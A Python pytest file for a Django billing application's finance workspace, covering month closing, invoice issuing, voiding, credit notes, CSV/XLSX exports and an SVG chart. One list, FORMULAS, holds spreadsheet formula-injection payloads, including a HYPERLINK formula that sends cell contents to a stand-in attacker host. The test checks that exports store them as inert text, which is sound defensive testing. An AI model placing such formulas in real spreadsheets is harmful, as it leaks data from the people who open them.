"""Finance's workspace: a month's invoices beside last month's, closing with a preview, issuing in
bulk, paid and void, the month for accounting as CSV and XLSX, and a chart served by the portal."""

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from billing import finance, selectors
from billing.invoices import close_month, credit, issue, mark_paid
from billing.invoicing import round_money
from billing.models import BillingProfile, Invoice, InvoiceState
from tests.billing.test_invoices import AFTER, november  # noqa: F401  (the fixture)
from tests.factories import InvoiceFactory, TenantFactory

MONTH = "/billing/2026-11/"


@pytest.fixture
def finance_client(staff_user, client_for):
    return client_for(staff_user("finance"))


@pytest.fixture
def closed(november):  # noqa: F811
    close_month("2026-11", now=AFTER)
    return november


def test_finance_finds_the_workspace_from_the_top_bar_and_lands_on_the_last_ended_month(finance_client):
    page = finance_client.get("/", follow=True)  # staff without a tenant land on their workspace
    assert b'href="/billing/"' in page.content
    landing = finance_client.get("/billing/")
    last = finance.shift(selectors.this_month(), -1)
    assert landing.status_code == 302 and landing["Location"] == f"/billing/{last:%Y-%m}/"


@pytest.mark.parametrize("group", ["approver", "operator"])
def test_nobody_but_finance_reaches_the_workspace(group, closed, staff_user, tenancy, client_for):
    invoice = Invoice.objects.first()
    urls = [
        "/billing/",
        MONTH,
        f"{MONTH}chart.svg",
        f"{MONTH}close/",
        f"{MONTH}export/csv/",
        f"/billing/invoices/{invoice.pk}/",
    ]
    for user in (staff_user(group), tenancy.acme_admin, tenancy.acme_member):
        client = client_for(user)
        assert {url: client.get(url).status_code for url in urls} == dict.fromkeys(urls, 404)
        assert client.post(f"{MONTH}issue/", {"all": "1"}).status_code == 404
        assert client.post(f"/billing/invoices/{invoice.pk}/issue/").status_code == 404
    assert not Invoice.objects.exclude(state=InvoiceState.DRAFT).exists()
    note = credit(invoice_id=issue(invoice_id=invoice.pk).pk, amount=Decimal(10), reason="r")
    for user in (staff_user(group), tenancy.acme_admin):
        assert client_for(user).get(f"/billing/credit-notes/{note.pk}/pdf/").status_code == 404


def test_the_month_shows_each_tenant_beside_last_month_with_counts(closed, finance_client):
    acme, globex = closed
    BillingProfile.objects.create(tenant=acme, cost_centre="CC-42", po_number="PO-7")
    InvoiceFactory(tenant=acme, month=date(2026, 10, 1), subtotal=Decimal("10000"), tax=Decimal("1000"))
    page = finance_client.get(MONTH)
    assert page.status_code == 200
    rows = {row.invoice.tenant_id: row for row in page.context["rows"]}
    now_total = Invoice.objects.get(tenant=acme, month=date(2026, 11, 1)).total
    assert rows[acme.pk].previous == Decimal("11000") and rows[acme.pk].change == now_total - 11000
    assert rows[globex.pk].previous is None and rows[globex.pk].change is None
    text = page.content.decode()
    assert "CC-42 / PO-7" in text and f"{now_total:,.0f}" in text
    drafts = next(row for row in page.context["totals"].states if row.state == "draft")
    assert drafts.count == 2


def test_closing_is_previewed_then_done_and_the_preview_writes_nothing(november, finance_client):  # noqa: F811
    preview = finance_client.get(f"{MONTH}close/")
    assert preview.status_code == 200
    assert [draft.action for draft, _ in preview.context["entries"]] == ["create", "create"]
    assert not Invoice.objects.exists()
    done = finance_client.post(f"{MONTH}close/", follow=True)
    assert Invoice.objects.filter(state="draft").count() == 2
    assert "2 draft(s) created" in done.content.decode()
    totals = {draft.tenant_id: draft.totals.total for draft, _ in preview.context["entries"]}
    assert totals == dict(Invoice.objects.values_list("tenant_id", "total"))
    again = finance_client.get(f"{MONTH}close/")
    assert [draft.action for draft, _ in again.context["entries"]] == ["rebuild", "rebuild"]


def test_a_month_not_yet_ended_cannot_be_closed_and_says_when_it_can(finance_client, db):
    month = f"{selectors.this_month():%Y-%m}"
    page = finance_client.get(f"/billing/{month}/")
    assert page.context["closable"] is False and "has not ended yet" in page.context["not_closable"]
    preview = finance_client.get(f"/billing/{month}/close/")
    assert preview.status_code == 400 and "has not ended yet" in preview.content.decode()
    close = finance_client.post(f"/billing/{month}/close/")
    assert close.status_code == 400 and not Invoice.objects.exists()


@pytest.mark.parametrize("month", ["2026-13", "2026-00"])
def test_a_month_that_does_not_exist_is_a_404(month, finance_client, db):
    assert finance_client.get(f"/billing/{month}/").status_code == 404
    assert finance_client.post(f"/billing/{month}/close/").status_code == 404


def test_chosen_drafts_are_issued_together_in_tenant_order(closed, finance_client):
    chosen = list(Invoice.objects.values_list("pk", flat=True))
    done = finance_client.post(f"{MONTH}issue/", {"invoice": chosen}, follow=True)
    assert done.status_code == 200
    numbers = dict(Invoice.objects.values_list("tenant__name", "number"))
    year = timezone.localtime(timezone.now(), timezone=ZoneInfo("Asia/Seoul")).year
    assert numbers[min(numbers)] == f"{year}-00001"  # in the order of tenant names
    assert numbers[max(numbers)] == f"{year}-00002"
    assert "2 invoices issued" in done.content.decode()


def test_a_choice_that_is_not_a_draft_of_the_month_issues_nothing(closed, finance_client):
    acme, globex = closed
    first = Invoice.objects.get(tenant=acme)
    issue(invoice_id=first.pk)
    other = Invoice.objects.get(tenant=globex)
    for data in ({"invoice": [first.pk, other.pk]}, {"invoice": ["x"]}, {}):
        answer = finance_client.post(f"{MONTH}issue/", data)
        assert answer.status_code in (400, 409), data
        assert Invoice.objects.get(pk=other.pk).state == InvoiceState.DRAFT
    assert finance_client.post(f"{MONTH}issue/", {"all": "1"}).status_code == 302
    assert Invoice.objects.get(pk=other.pk).state == InvoiceState.ISSUED


def test_one_invoice_is_issued_paid_and_voided_from_its_page(closed, finance_client):
    acme, globex = closed
    invoice = Invoice.objects.get(tenant=acme)
    page = finance_client.get(f"/billing/invoices/{invoice.pk}/")
    assert "<title>Draft invoice · " in page.content.decode()
    assert (
        page.status_code == 200
        and f"/api/v1/invoices/{invoice.pk}/export/?format=pdf" in page.content.decode()
    )
    assert finance_client.post(f"/billing/invoices/{invoice.pk}/issue/").status_code == 302
    assert finance_client.post(f"/billing/invoices/{invoice.pk}/paid/").status_code == 302
    invoice.refresh_from_db()
    assert invoice.state == InvoiceState.PAID and invoice.number
    refused = finance_client.post(f"/billing/invoices/{invoice.pk}/issue/")
    assert refused.status_code == 409 and "paid already" in refused.content.decode()

    other = Invoice.objects.get(tenant=globex)
    blank = finance_client.post(f"/billing/invoices/{other.pk}/void/", {"reason": "  "})
    assert blank.status_code == 400 and Invoice.objects.get(pk=other.pk).state == InvoiceState.DRAFT
    finance_client.post(f"/billing/invoices/{other.pk}/void/", {"reason": "usage disputed"})
    other.refresh_from_db()
    assert other.state == InvoiceState.VOID and other.void_reason == "usage disputed"
    assert finance_client.post(f"/billing/invoices/{other.pk}/shred/").status_code == 404
    assert finance_client.get(f"/billing/invoices/{other.pk}/void/").status_code == 405


def test_an_invoice_long_unpaid_is_overdue_everywhere_finance_looks(closed, finance_client):
    acme, globex = closed
    late = issue(invoice_id=Invoice.objects.get(tenant=acme).pk, at=timezone.now() - timedelta(days=31))
    issue(invoice_id=Invoice.objects.get(tenant=globex).pk)
    page = finance_client.get(MONTH)
    assert page.context["totals"].overdue_count == 1 and page.context["totals"].overdue_total == late.total
    listed = finance_client.get(MONTH, {"state": "overdue"})
    assert [row.invoice.pk for row in listed.context["rows"]] == [late.pk]
    assert all(row.overdue for row in listed.context["rows"])
    mark_paid(invoice_id=late.pk)
    assert finance_client.get(MONTH).context["totals"].overdue_count == 0


def _month_rows(content: bytes, kind: str) -> list[dict]:
    if kind == "csv":
        return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))
    sheet = load_workbook(io.BytesIO(content)).active
    values = list(sheet.iter_rows(values_only=True))
    return [
        {key: "" if value is None else str(value) for key, value in zip(values[0], row, strict=True)}
        for row in values[1:]
    ]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_month_exports_for_accounting_and_reads_back_to_the_invoices(kind, closed, finance_client):
    acme, globex = closed
    BillingProfile.objects.create(tenant=acme, cost_centre="CC-42", po_number="PO-7", legal_name="에이크미")
    issue(invoice_id=Invoice.objects.get(tenant=acme).pk)
    voided = InvoiceFactory(tenant=TenantFactory(slug="gone"), month=date(2026, 11, 1), state="void")
    answer = finance_client.get(f"{MONTH}export/{kind}/")
    assert answer.status_code == 200 and "invoices-2026-11" in answer["Content-Disposition"]
    rows = _month_rows(answer.content, kind)
    assert {row["tenant"] for row in rows} == {acme.slug, globex.slug}  # void left out
    assert voided.tenant.slug not in {row["tenant"] for row in rows}
    for invoice in Invoice.objects.exclude(state="void"):
        mine = [row for row in rows if row["tenant"] == invoice.tenant.slug]
        assert sum(Decimal(row["amount"]) for row in mine if row["amount"]) == invoice.subtotal
        assert sum(Decimal(row["tax"]) for row in mine if row["tax"]) == invoice.tax
        assert {row["invoice"] for row in mine} == {invoice.number or ""}
        assert {row["state"] for row in mine} == {invoice.state}
    acme_rows = [row for row in rows if row["tenant"] == acme.slug]
    assert {(row["cost_centre"], row["po_number"], row["legal_name"]) for row in acme_rows} == {
        ("CC-42", "PO-7", "에이크미")
    }
    assert finance_client.get(f"{MONTH}export/pdf/").status_code == 404


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2+3", "@SUM(A1)", "\tX", "\rX"]


@pytest.mark.parametrize(("legal_name", "cost_centre", "po_number"), [FORMULAS[:3], FORMULAS[3:]])
def test_the_month_exports_hold_what_a_tenant_typed_as_text_never_as_a_formula(
    legal_name, cost_centre, po_number, closed, finance_client
):
    acme, _globex = closed
    typed = {"legal_name": legal_name, "cost_centre": cost_centre, "po_number": po_number}
    BillingProfile.objects.create(tenant=acme, **typed)

    table = list(csv.DictReader(io.StringIO(finance_client.get(f"{MONTH}export/csv/").content.decode())))
    mine = [row for row in table if row["tenant"] == acme.slug]
    assert mine and all(row[field] == f"'{value}" for row in mine for field, value in typed.items())

    sheet = load_workbook(io.BytesIO(finance_client.get(f"{MONTH}export/xlsx/").content)).active
    header = [cell.value for cell in sheet[1]]
    lines = [row for row in sheet.iter_rows(min_row=2) if row[header.index("tenant")].value == acme.slug]
    assert lines
    for line in lines:
        for field, value in typed.items():
            cell = line[header.index(field)]
            assert cell.data_type == "s" and cell.quotePrefix, (field, value)
            assert cell.value == value.replace("\r", "\n")  # XML reads a lone CR as a line feed
        amount = line[header.index("amount")].value or line[header.index("tax")].value
        assert isinstance(amount, int | float) and line[header.index("amount")].data_type == "n"


def test_a_control_character_a_tenant_typed_does_not_break_the_xlsx(closed, finance_client):
    acme, _globex = closed
    BillingProfile.objects.create(tenant=acme, legal_name="Acme\x01 Ltd")
    answer = finance_client.get(f"{MONTH}export/xlsx/")
    assert answer.status_code == 200
    names = {row["legal_name"] for row in _month_rows(answer.content, "xlsx") if row["tenant"] == acme.slug}
    assert names == {"Acme\ufffd Ltd"}  # XLSX cannot hold U+0001


def test_a_negative_amount_stays_a_number_in_every_export(closed, finance_client):
    acme, _globex = closed
    invoice = Invoice.objects.get(tenant=acme)
    line = invoice.lines.filter(kind="usage").first()
    line.amount = -line.amount
    line.save()
    negative = round_money(line.amount, invoice.currency)

    table = list(csv.DictReader(io.StringIO(finance_client.get(f"{MONTH}export/csv/").content.decode())))
    assert str(negative) in {row["amount"] for row in table}  # as written, no quote before it

    sheet = load_workbook(io.BytesIO(finance_client.get(f"{MONTH}export/xlsx/").content)).active
    column = [cell.value for cell in sheet[1]].index("amount")
    amounts = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" for cell in amounts if cell.value is not None)
    assert Decimal(negative) in {Decimal(str(cell.value)) for cell in amounts if cell.value is not None}


def test_the_chart_is_an_svg_of_the_last_twelve_months_that_runs_no_script(closed, finance_client):
    issue(invoice_id=Invoice.objects.first().pk)
    answer = finance_client.get(f"{MONTH}chart.svg")
    assert answer.status_code == 200 and answer["Content-Type"] == "image/svg+xml"
    svg = answer.content.decode()
    assert svg.lstrip().startswith("<?xml") and "<script" not in svg
    assert set(re.findall(r"https?://[^\"'\s)]*", svg)) <= {
        "http://www.w3.org/2000/svg",
        "http://www.w3.org/1999/xlink",
    }
    assert "2025-12" in svg and "2026-11" in svg and "2026-12" not in svg
    policy = answer["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src 'none'" in policy
    history = finance.history(date(2026, 11, 1))
    billed = Invoice.objects.exclude(state="void").values_list("state", "total")
    for state, total in billed:
        assert history.totals[state][-1] >= total
    assert sum(history.totals[state][-1] for state in history.totals) == sum(total for _, total in billed)


def test_finance_credits_an_issued_invoice_from_its_page_and_never_beyond_it(closed, finance_client):
    acme, _globex = closed
    invoice = issue(invoice_id=Invoice.objects.get(tenant=acme).pk)
    url = f"/billing/invoices/{invoice.pk}/credit/"
    too_much = finance_client.post(url, {"amount": str(invoice.subtotal + 1), "reason": "outage"})
    assert too_much.status_code == 400 and too_much.context["credit_form"].errors["amount"]
    assert not invoice.credit_notes.exists()
    assert finance_client.post(url, {"amount": "abc", "reason": "outage"}).status_code == 400
    done = finance_client.post(url, {"amount": "1000", "reason": "outage on the 3rd"}, follow=True)
    note = invoice.credit_notes.get()
    assert (note.subtotal, note.tax, note.total) == (Decimal("1000"), Decimal("100"), Decimal("1100"))
    assert note.number in done.content.decode() and "outage on the 3rd" in done.content.decode()
    pdf = finance_client.get(f"/billing/credit-notes/{note.pk}/pdf/")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf" and pdf.content[:4] == b"%PDF"
